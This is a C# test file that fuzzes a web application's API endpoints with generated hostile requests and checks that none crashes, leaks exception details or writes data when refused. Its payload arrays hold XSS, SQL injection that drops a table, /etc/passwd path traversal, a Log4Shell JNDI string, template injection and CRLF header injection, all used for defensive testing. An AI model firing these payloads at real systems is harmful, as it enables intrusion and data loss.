using System.Net;
using System.Net.Http.Headers;
using System.Reflection;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using CooperaNet.Application.Identity;
using CooperaNet.Domain.Events;
using CooperaNet.Web.Tests.Events;
using CooperaNet.Web.Tests.Experiences;
using CooperaNet.Web.Tests.Support;
using CsCheck;
using Microsoft.AspNetCore.Http;
using Microsoft.AspNetCore.Http.Metadata;
using Microsoft.AspNetCore.Routing;
using Microsoft.AspNetCore.Routing.Patterns;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace CooperaNet.Web.Tests.Hostile;

/// <summary>
/// Generated hostile requests against every /api/ endpoint the application maps, as the public, a
/// focal point and the secretariat: malformed and wrongly typed JSON, invalid UTF-8, control characters,
/// huge strings, odd route values and query strings. None may answer 500 or log an unhandled exception,
/// and a refused one (4xx) leaves the audit trail and every table as they were. CsCheck picks a seed per
/// run and prints it on failure; <c>CsCheck_Seed=...</c> replays it.
/// </summary>
public sealed class HostileApiInputTests(HostileHost host) : IClassFixture<HostileHost>
{
    private const int CasesPerEndpoint = 10;

    private static readonly string?[] Users = [null, Roles.FocalPoint, Roles.Secretariat];

    private readonly int[] statuses = new int[6];

    /// <summary>One generated request.</summary>
    public sealed record Attempt(int User, string Path, string Query, byte[]? Body, string? ContentType)
    {
        public override string ToString() =>
            $"{Users[User] ?? "anonymous"} {Path}{Query} [{ContentType}] {(Body is null ? "(no body)" : Body.Length > 300 ? $"{Body.Length} bytes: " + Encoding.UTF8.GetString(Body, 0, 300) + "..." : Encoding.UTF8.GetString(Body))}";
    }

    [Fact]
    public async Task No_api_endpoint_answers_500_logs_an_exception_or_writes_when_it_refuses_generated_input()
    {
        var ids = await SeedAsync();
        var endpoints = ApiEndpoints(host.Services);
        Assert.True(endpoints.Count > 100, $"Only {endpoints.Count} API endpoints found");
        foreach (var user in Users)
        {
            await host.BrowserAsync(user);
        }

        var failures = new List<string>();
        foreach (var (method, endpoint) in endpoints)
        {
            var gen = AttemptGen(endpoint, method, ids);
            try
            {
                await Check.SampleAsync(gen, attempt => SendAsync(method, attempt), iter: CasesPerEndpoint, threads: 1, print: a => a.ToString());
            }
            catch (CsCheckException e)
            {
                failures.Add($"{method} {endpoint.RoutePattern.RawText}: {e.Message}\n{e.InnerException?.Message}");
            }
        }

        Assert.True(failures.Count == 0, string.Join("\n\n", failures));

        // The generated requests reach the handlers, not only the router: some are accepted.
        TestContext.Current.TestOutputHelper?.WriteLine($"{endpoints.Count} endpoints: {statuses[2]} 2xx, {statuses[3]} 3xx, {statuses[4]} 4xx");
        Assert.True(statuses[2] > endpoints.Count / 4, $"Only {statuses[2]} of the generated requests were accepted");
    }

    private async Task SendAsync(string method, Attempt attempt)
    {
        var browser = await host.BrowserAsync(Users[attempt.User]);
        var writes = method is not ("GET" or "HEAD");
        var before = writes ? await host.FingerprintAsync() : null;
        var logged = host.Logs.Count;
        using var request = new HttpRequestMessage(new HttpMethod(method), attempt.Path + attempt.Query);
        if (attempt.Body is not null)
        {
            request.Content = new ByteArrayContent(attempt.Body);
            if (attempt.ContentType is not null)
            {
                request.Content.Headers.ContentType = MediaTypeHeaderValue.Parse(attempt.ContentType);
            }
        }

        using var response = await browser.Http.SendAsync(request, TestContext.Current.CancellationToken);
        var status = (int)response.StatusCode;
        if (status >= 500)
        {
            var body = await response.Content.ReadAsStringAsync(TestContext.Current.CancellationToken);
            throw new InvalidOperationException($"Answered {status}: {body[..Math.Min(body.Length, 500)]}\n{string.Join("\n", host.Logs.Since(logged))}");
        }

        var text = await response.Content.ReadAsStringAsync(TestContext.Current.CancellationToken);
        if (text.Contains("Exception", StringComparison.Ordinal) || text.Contains(" at CooperaNet.", StringComparison.Ordinal) || text.Contains(" at Microsoft.", StringComparison.Ordinal))
        {
            throw new InvalidOperationException($"Answered {status} with exception details: {text[..Math.Min(text.Length, 500)]}");
        }

        var errors = host.Logs.Since(logged);
        if (errors.Count > 0)
        {
            throw new InvalidOperationException($"Answered {status} and logged:\n{string.Join("\n", errors)}");
        }

        statuses[status / 100]++;
        if (writes && status >= 400)
        {
            var after = await host.FingerprintAsync();
            if (after != before)
            {
                throw new InvalidOperationException($"Answered {status} but wrote:\nbefore {before}\nafter  {after}");
            }
        }
    }

    /// <summary>Every route under /api/ with each of its methods, in a stable order.</summary>
    private static List<(string Method, RouteEndpoint Endpoint)> ApiEndpoints(IServiceProvider services) =>
    [
        .. services.GetRequiredService<EndpointDataSource>().Endpoints
            .OfType<RouteEndpoint>()
            .Where(e => e.RoutePattern.RawText?.StartsWith("/api/", StringComparison.OrdinalIgnoreCase) == true)
            .SelectMany(e => (e.Metadata.GetMetadata<IHttpMethodMetadata>()?.HttpMethods ?? ["GET"]).Select(m => (m, e)))
            .OrderBy(x => x.e.RoutePattern.RawText, StringComparer.Ordinal)
            .ThenBy(x => x.m, StringComparer.Ordinal),
    ];

    /// <summary>A published event, a published experience and a few demo catalog entries, so real ids reach past the 404s.</summary>
    private async Task<IdPool> SeedAsync()
    {
        await host.WithScopeAsync(sp => sp.GetRequiredService<Application.Demo.DemoCatalogSeeder>().SeedAsync(limit: 10, TestContext.Current.CancellationToken));
        await EventData.SaveAsync(host, EventStatus.Published, "Taller de agua");
        await ExperienceData.SaveAsync(host, ExperienceData.Input());
        await using var db = host.NewDbContext();
        var guids = new List<string>();
        var connection = db.Database.GetDbConnection();
        await connection.OpenAsync(TestContext.Current.CancellationToken);
        foreach (var type in db.Model.GetEntityTypes())
        {
            var key = type.FindPrimaryKey()?.Properties;
            if (type.GetTableName() is not { } table || key is not [{ } id] || id.ClrType != typeof(Guid))
            {
                continue;
            }

            await using var command = connection.CreateCommand();
#pragma warning disable CA2100 // Names come from the EF model, not from input.
            command.CommandText = $"SELECT \"{id.GetColumnName()}\" FROM \"{table}\" LIMIT 2";
#pragma warning restore CA2100
            await using var reader = await command.ExecuteReaderAsync(TestContext.Current.CancellationToken);
            while (await reader.ReadAsync(TestContext.Current.CancellationToken))
            {
                guids.Add(Convert.ToString(reader.GetValue(0), System.Globalization.CultureInfo.InvariantCulture)!);
            }
        }

        return new IdPool([.. guids]);
    }

    private sealed record IdPool(string[] Guids);

    private static readonly string[] OddRouteValues =
    [
        "0", "-1", "2147483648", "99999999999999999999999999", "00000000-0000-0000-0000-000000000000", "CO", "co", "XX",
        "2027", "2027-13", "2027-02-30", "en", "zz", "%01", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "'%20OR%20'1'%3D'1", "%F0%9F%92%A5", "%C3%28", "%FF%FE", "a%0D%0ASet-Cookie:%20x%3D1", new string('9', 400), new string('z', 3000),
    ];

    private static readonly string[] Payloads =
    [
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "' OR '1'='1' --", "'; DROP TABLE \"AuditEntries\"; --",
        "../../../../etc/passwd", "${jndi:ldap://x/a}", "{{7*7}}", "\u0000\u0001\u0007\u001b[31m", "\u202e\u200b\ufeff", "𝕏🙂\U0001F4A5",
        "-1", "1e309", "NaN", "9223372036854775808", "0000-00-00", "2027-02-30T25:61:00Z", "true", "null", "[]", "{}", "",
        " ", "\r\n", "es", "en", "CO", "12220", "success-story", "published",
    ];

    private static readonly string Huge = new('é', 50_000);

    private static readonly Gen<string> HostileString = Gen.Frequency(
        (6, Gen.OneOf(Payloads)),
        (4, Gen.String),
        (2, Gen.Char['\0', '\u001f'].Array[1, 40].Select(c => new string(c))),
        (1, Gen.Int[1000, 20_000].Select(n => new string('x', n))),
        (1, Gen.Const(Huge)));

    private static readonly Gen<JsonNode?> Scalar = Gen.Frequency(
        (1, Gen.Const((JsonNode?)null)),
        (1, Gen.Bool.Select(b => (JsonNode?)JsonValue.Create(b))),
        (2, Gen.Long.Select(n => (JsonNode?)JsonValue.Create(n))),
        (1, Gen.OneOf(double.MaxValue, double.MinValue, 1e-300, -0.5, 3.7).Select(d => (JsonNode?)JsonValue.Create(d))),
        (6, HostileString.Select(s => (JsonNode?)JsonValue.Create(s))));

    private static readonly Gen<JsonNode?> AnyJson = Gen.Recursive<JsonNode?>((depth, inner) => depth >= 3
        ? Scalar
        : Gen.Frequency(
            (5, Scalar),
            (1, inner.Array[0, 4].Select(items => (JsonNode?)new JsonArray([.. items.Select(i => i?.DeepClone())]))),
            (1, Gen.Select(HostileString.Array[0, 4], inner.Array[4], (keys, values) => (JsonNode?)Object(keys.Zip(values))))));

    private static JsonObject Object(IEnumerable<(string Key, JsonNode? Value)> pairs)
    {
        var result = new JsonObject();
        foreach (var (key, value) in pairs)
        {
            result[key] = value?.DeepClone();
        }

        return result;
    }

    /// <summary>The request body: the endpoint's own fields with hostile values, or any JSON, broken JSON, bad bytes, another content type or nothing.</summary>
    private static Gen<(byte[]? Body, string? ContentType)> BodyGen(RouteEndpoint endpoint)
    {
        var fields = (endpoint.Metadata.GetMetadata<IAcceptsMetadata>()?.RequestType?.GetProperties(BindingFlags.Public | BindingFlags.Instance) ?? [])
            .Select(p => JsonNamingPolicy.CamelCase.ConvertName(p.Name))
            .ToArray();
        var shaped = fields.Length == 0
            ? AnyJson
            : Gen.Select(Gen.Bool.Array[fields.Length], AnyJson.Array[fields.Length], (keep, values) =>
                (JsonNode?)Object(fields.Select((f, i) => (f, values[i])).Where((_, i) => keep[i] || i % 3 == 0)));
        var json = Gen.Frequency((3, shaped), (1, AnyJson)).Select(node => node?.ToJsonString() ?? "null");
        return Gen.Frequency(
            (8, json.Select(text => ((byte[]?)Encoding.UTF8.GetBytes(text), (string?)"application/json"))),
            (2, Gen.Select(json, Gen.Double[0, 1], (text, cut) => ((byte[]?)Encoding.UTF8.GetBytes(text[..(int)(text.Length * cut)]), (string?)"application/json; charset=utf-8"))),
            (2, Gen.Select(json, Gen.Byte.Array[1, 40], (text, noise) => ((byte[]?)[.. Encoding.UTF8.GetBytes(text).Take(20), 0xC3, 0x28, 0xFF, 0xFE, .. noise], (string?)"application/json"))),
            (1, json.Select(text => ((byte[]?)Encoding.Unicode.GetBytes(text), (string?)"application/json; charset=utf-16"))),
            (1, json.Select(text => ((byte[]?)Encoding.UTF8.GetBytes(text), (string?)"text/plain"))),
            (1, HostileString.Select(text => ((byte[]?)Encoding.UTF8.GetBytes("a=" + Uri.EscapeDataString(text[..Math.Min(text.Length, 5000)])), (string?)"application/x-www-form-urlencoded"))),
            (1, Gen.Byte.Array[0, 200].Select(bytes => ((byte[]?)bytes, (string?)"multipart/form-data; boundary=x"))),
            (1, Gen.Const<(byte[]?, string?)>((null, null))));
    }

    private static Gen<Attempt> AttemptGen(RouteEndpoint endpoint, string method, IdPool ids)
    {
        var parameters = endpoint.RoutePattern.Parameters;
        var routeValue = Gen.Frequency(
            (4, Gen.OneOf(ids.Guids)),
            (2, Gen.Guid.Select(g => g.ToString())),
            (4, Gen.OneOf(OddRouteValues)),
            (1, HostileString.Select(s => PathValue(s[..Math.Min(s.Length, 500)]))));
        var names = (endpoint.Metadata.OfType<MethodInfo>().FirstOrDefault()?.GetParameters() ?? [])
            .Where(p => p.ParameterType.IsPrimitive || p.ParameterType == typeof(string) || Nullable.GetUnderlyingType(p.ParameterType) is not null
                || p.ParameterType.IsEnum || p.ParameterType == typeof(Guid) || p.ParameterType == typeof(DateOnly) || p.ParameterType.IsArray)
            .Select(p => p.Name!)
            .Where(n => parameters.All(r => !string.Equals(r.Name, n, StringComparison.OrdinalIgnoreCase)))
            .Concat(["page", "pageSize", "lang", "q", "x"])
            .Distinct(StringComparer.OrdinalIgnoreCase)
            .ToArray();
        var pair = Gen.Select(Gen.OneOf(names), Gen.Frequency((3, Gen.OneOf(OddRouteValues)), (2, HostileString.Select(s => Uri.EscapeDataString(s[..Math.Min(s.Length, 2000)])))), (k, v) => $"{k}={v}");
        var query = pair.Array[0, 4].Select(p => p.Length == 0 ? string.Empty : "?" + string.Join("&", p));
        var body = method is "GET" or "HEAD" or "DELETE" ? Gen.Const<(byte[]?, string?)>((null, null)) : BodyGen(endpoint);
        return Gen.Select(Gen.Int[0, Users.Length - 1], routeValue.Array[parameters.Count], query, body, (user, values, q, b) =>
            new Attempt(user, Path(endpoint.RoutePattern, values), q, b.Item1, b.Item2));
    }

    /// <summary>
    /// A route value, escaped, without NUL: Kestrel refuses a path holding %00 with 400 before the
    /// application sees it, and the test server throws on it in the client instead.
    /// </summary>
    private static string PathValue(string value) => Uri.EscapeDataString(value.Replace('\0', '\u0001'));

    /// <summary>The route with each parameter replaced by its generated value (catch-alls and optional ones too).</summary>
    private static string Path(RoutePattern pattern, string[] values)
    {
        var path = new StringBuilder();
        var next = 0;
        foreach (var segment in pattern.PathSegments)
        {
            path.Append('/');
            foreach (var part in segment.Parts)
            {
                path.Append(part switch
                {
                    RoutePatternLiteralPart literal => literal.Content,
                    RoutePatternSeparatorPart separator => separator.Content,
                    RoutePatternParameterPart => values[next++],
                    _ => string.Empty,
                });
            }
        }

        return path.ToString();
    }
}
